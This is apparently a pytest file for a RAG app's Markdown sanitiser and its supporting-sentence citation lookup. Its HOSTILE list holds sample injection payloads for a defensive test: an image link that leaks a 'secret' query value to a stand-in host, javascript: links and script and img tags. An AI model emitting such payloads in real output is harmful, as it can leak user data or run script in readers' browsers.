"""Untrusted text made safe for Markdown (rag.views.markdown); the supporting sentence
(rag.answering.support)."""

from __future__ import annotations

import re

import pytest

from rag.answering.support import claims_for, supporting_span
from rag.core.text import sentence_spans
from rag.views.markdown import (
    ZWSP,
    SafeMarkdownStream,
    escape_markdown,
    highlight,
    replace_images,
    safe_markdown,
)

HOSTILE = [
    "![x](http://evil.example/p.png?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[a]\n\n[a]: javascript:alert(1)",
    "<img src=http://evil.example/x.png>",
    "<script>alert(1)</script>",
    "<http://evil.example>",
    "see http://evil.example/x and www.evil.example",
    "![x](<http://evil.example/p.png>)",
    "\\![x](http://evil.example/p.png)",
]

# What a Markdown renderer needs to make an image, a link, a tag or a bare-URL link.
LIVE = re.compile(r"\]\(|\]:|\]\[|<[A-Za-z/!?]|https?://|www\.", re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_markdown_leaves_no_link_image_or_tag(text: str) -> None:
    out = safe_markdown(text)
    assert not LIVE.search(out), out
    assert out.replace(ZWSP, "") == replace_images(text)  # nothing else changed


def test_images_become_plain_text_and_formatting_survives() -> None:
    out = safe_markdown("**Cats** eat fish [1].\n\n- one\n- two\n\n![a cat](http://x/c.png)")
    assert out.startswith("**Cats** eat fish [1]" + ZWSP + ".")
    assert "- one\n- two" in out
    assert "[image: a cat]" in out
    assert replace_images("![](http://x/y.png)") == "[image]"


@pytest.mark.parametrize("text", [*HOSTILE, "Cats [1] and dogs [2][3]. Also [unclosed"])
@pytest.mark.parametrize("size", [1, 2, 5])
def test_streaming_never_shows_a_live_construct_at_any_point(text: str, size: int) -> None:
    stream = SafeMarkdownStream()
    shown = ""
    for i in range(0, len(text), size):
        shown += stream.feed(text[i : i + size])
        # Streamlit completes unterminated syntax while streaming: an open "[" must
        # not be on screen, nor anything live.
        assert not LIVE.search(shown), shown
        assert shown.count("[") == shown.count("]"), shown
    shown += stream.flush()
    assert not LIVE.search(shown)
    assert shown.replace(ZWSP, "") == text.replace(ZWSP, "")  # nothing lost, nothing added


def test_escape_markdown_shows_text_literally() -> None:
    text = "# Title\n*not bold* [x](y) <b> $5 :red[x] 1. item `code` http://a.b/c a@b.com"
    out = escape_markdown(text)
    assert "\n" not in out
    unescaped = re.sub(r"\\(.)", r"\1", out).replace(ZWSP, "")
    assert unescaped == " ".join(text.split())  # every character shown as it is
    assert "http\\:" + ZWSP in out  # and no bare-URL autolink
    assert "@" + ZWSP in out  # no mailto autolink
    assert escape_markdown("a\n\nb", fold=False) == "a\n\nb"


def test_highlight_bolds_one_span_of_escaped_text() -> None:
    text = "First one. The *key* sentence [here]. Last."
    start = text.index("The")
    end = text.index("Last") - 1
    out = highlight(text, (start, end))
    assert out == "First one\\. **The \\*key\\* sentence \\[here\\]\\.** Last\\."
    assert highlight(text, None) == escape_markdown(text)


def test_sentence_spans_and_supporting_sentence() -> None:
    text = "# Food\n\nCats eat fish and mice. Dogs eat anything.\nCats drink water."
    spans = [text[s:e] for s, e in sentence_spans(text)]
    assert spans == ["# Food", "Cats eat fish and mice.", "Dogs eat anything.", "Cats drink water."]
    answer = "Cats eat fish and mice [1]. They also drink water. [2]"
    assert claims_for(answer, 2) == "They also drink water [2]."
    span = supporting_span(answer, 1, text)
    assert span is not None and text[span[0] : span[1]] == "Cats eat fish and mice."
    span = supporting_span(answer, 2, text)
    assert span is not None and text[span[0] : span[1]] == "Cats drink water."
    assert supporting_span("Unrelated words entirely [1].", 1, text) is None
